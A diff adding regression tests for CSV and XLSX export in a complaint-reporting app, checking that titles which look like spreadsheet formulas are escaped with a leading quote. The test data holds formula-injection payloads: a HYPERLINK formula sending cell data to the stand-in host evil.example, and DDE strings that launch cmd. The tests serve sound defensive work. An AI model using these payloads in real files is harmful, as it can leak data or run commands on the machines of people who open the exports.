@@ -70,3 +70,50 @@ def test_cancelled_export_leaves_no_file(report, tmp_path):
     with pytest.raises(ExportCancelled):
         write_csv(report, folder / "batal.csv", cancelled=lambda: True)
     assert list(folder.iterdir()) == []
+
+
+# --- finding 4 of issue 19: formula injection ------------------------------------------------
+
+INJECTIONS = ('=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+1+cmd|' /C calc'!A0",
+              "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
+
+
+@pytest.fixture
+def hostile_report(tmp_path):
+    import dataclasses
+
+    from lapor_desktop.store import open_store
+    from tests.unit.reports.seeding import build_complaints, seed_store
+
+    complaints = build_complaints()
+    shown = [c for c in complaints if not c.rahasia][:len(INJECTIONS)]
+    by_id = {c.id: title for c, title in zip(shown, INJECTIONS, strict=True)}
+    complaints = [dataclasses.replace(c, title=by_id[c.id]) if c.id in by_id else c
+                  for c in complaints]
+    store = open_store(tmp_path / "lapor.db")
+    seed_store(store, complaints)
+    report = load_report(store, Period.parse("2026-11"), NOW)
+    store.close()
+    titles = {ln.title for ln in report.lines}
+    assert titles & set(INJECTIONS), "the hostile titles must be in the report period"
+    return report, titles & set(INJECTIONS)
+
+
+def test_xlsx_cells_that_look_like_formulas_stay_text(hostile_report, tmp_path):
+    report, injected = hostile_report
+    book = openpyxl.load_workbook(write_xlsx(report, tmp_path / "laporan.xlsx"))
+    cells = [c for row in book["Laporan"].iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    values = {c.value for c in cells}
+    for title in injected:
+        assert "'" + title in values
+
+
+def test_csv_cells_that_look_like_formulas_get_a_leading_quote(hostile_report, tmp_path):
+    report, injected = hostile_report
+    path = write_csv(report, tmp_path / "laporan.csv")
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        titles = [r[1] for r in list(csv.reader(handle))[1:]]
+    for title in injected:
+        assert "'" + title in titles and title not in titles
+    assert not [t for t in titles if t[:1] in ("=", "+", "-", "@", "\t", "\r")]
